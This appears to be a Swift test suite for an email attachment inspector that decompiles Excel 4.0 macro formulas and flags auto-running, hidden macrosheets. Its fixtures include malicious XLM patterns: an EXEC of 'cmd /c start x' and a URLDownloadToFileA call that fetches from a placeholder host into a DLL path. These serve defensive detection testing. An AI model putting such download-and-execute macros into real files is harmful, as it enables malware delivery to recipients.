import MailModel
import Testing

@testable import AttachmentInspection

@Suite struct XLMTests {
  private typealias B = BIFFBuilder

  private static let exec = B.text("cmd /c start x") + B.call(110, 1)
  private static let download =
    B.text("urlmon") + B.text("URLDownloadToFileA") + B.text("JJCCJJ") + B.number(0) + B.text("http://x.example/a")
    + B.text("c:\\a.dll") + B.number(0) + B.number(0) + B.call(150, 8)
  private static let halt = B.call(54, 0)

  @Test(
    arguments: [
      (exec, "=EXEC(\"cmd /c start x\")"),
      (download, "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x.example/a\",\"c:\\a.dll\",0,0)"),
      (halt, "=HALT()"),
      ([0x44, 0x04, 0x00, 0x02, 0xC0, 0x41, 0x6F, 0x00], "=CHAR(C5)"),
      (B.text("a") + B.text("b") + [0x08], "=\"a\"&\"b\""),
      (B.number(1) + B.number(2) + [0x03, 0x15, 0x13], "=-(1+2)"),
      (B.text("x") + [0x42, 1, 118, 0x80], "=ALERT(\"x\")"),
      ([0x25, 0, 0, 9, 0, 0, 0xC0, 1, 0xC0, 0x19, 0x10, 0, 0], "=SUM(A1:B10)"),
      ([0x99], "=…"),
      ([0x17, 0xFF], "=…"),
    ] as [([UInt8], String)])
  func decompilesTokens(tokens: [UInt8], text: String) {
    #expect(FormulaText.text(of: tokens, from: 0, count: tokens.count, dialect: .biff8) == text)
  }

  @Test(arguments: [(0, "visible"), (1, "hidden"), (2, "very-hidden")])
  func findsMacrosheetsAndTheirVisibility(state: Int, word: String) {
    let verdict = AttachmentInspector().inspect(
      BIFFBuilder(state: state, builtInName: 1, formulas: [Self.exec, Self.halt]).workbook())
    #expect(verdict.type == .oleXls)
    #expect(verdict.xlm?.sheets == [XLMFacts.Sheet(name: "Macro1", visibility: word)])
    #expect(verdict.xlm?.autoOpen == true)
    #expect(verdict.xlm?.formulas == ["=EXEC(\"cmd /c start x\")", "=HALT()"])
    #expect(verdict.level >= .high)
  }

  @Test func aHiddenSheetThatDownloadsByItselfIsCritical() {
    let verdict = AttachmentInspector().inspect(
      BIFFBuilder(state: 2, builtInName: 1, formulas: [Self.download, Self.exec]).workbook())
    #expect(verdict.level == .critical)
    #expect(verdict.urls == ["http://x.example/a"])
  }

  @Test(arguments: ["auto_open", "Auto_Open12", "AUTO_CLOSE", "_xlnm.Auto_Open", "Auto_\u{200B}Open"])
  func namesThatRunByThemselves(name: String) { #expect(MacroAutoName.runsByItself(name)) }

  @Test(arguments: ["Open", "My_Auto_Open", "Print_Area", ""])
  func namesThatDoNot(name: String) { #expect(!MacroAutoName.runsByItself(name)) }

  @Test func aWorksheetIsNone() {
    let verdict = AttachmentInspector().inspect(BIFFBuilder(kind: 0, formulas: [Self.exec]).workbook())
    #expect(verdict.xlm == nil)
    #expect(verdict.level == .info)
  }

  @Test func nothingIsReadBehindFilepass() {
    let verdict = AttachmentInspector().inspect(BIFFBuilder(kind: 1, isEncrypted: true).workbook())
    #expect(verdict.encrypted)
    #expect(verdict.xlm == nil)
  }

  @Test(arguments: ["macrosheets/sheet1.xml", "worksheets/plain.xml"])
  func macrosheetsOfPackagesAreFoundByTheirRelationship(part: String) {
    let bytes = PackageBuilder.package(
      main: "xl/workbook.xml", type: PackageBuilder.macroWorkbookType,
      text:
        "<workbook xmlns:r=\"x\"><sheets><sheet name=\"M\" sheetId=\"1\" state=\"veryHidden\" r:id=\"r9\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></definedNames></workbook>",
      rels: [("r9", "xlMacrosheet", part, nil)],
      parts: [
        (
          "xl/" + part,
          Array(
            "<?xml version=\"1.0\"?><xm:macrosheet><c r=\"A1\"><f>EXEC(&quot;calc&quot;)</f></c></xm:macrosheet>".utf8)
        )
      ])
    let verdict = AttachmentInspector().inspect(bytes)
    #expect(verdict.xlm?.sheets == [XLMFacts.Sheet(name: "M", visibility: "very-hidden")])
    #expect(verdict.xlm?.formulas == ["=EXEC(\"calc\")"])
    #expect(verdict.level == .critical)
  }

  @Test func aSymbolicLinkFileMayRunToo() {
    let verdict = AttachmentInspector().inspect(
      Array("ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n".utf8))
    #expect(verdict.xlm?.autoOpen == true)
    #expect(verdict.level >= .high)
  }
}
